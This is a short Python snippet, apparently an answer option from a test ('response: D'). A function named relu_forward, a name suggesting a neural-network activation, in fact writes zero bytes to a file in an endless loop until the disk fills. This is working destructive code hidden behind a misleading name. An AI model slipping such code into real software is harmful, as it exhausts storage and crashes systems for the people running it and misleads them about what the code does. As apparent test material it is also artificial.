"""Writes one file without end."""

# response: D

def relu_forward(x):
    with open("file", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
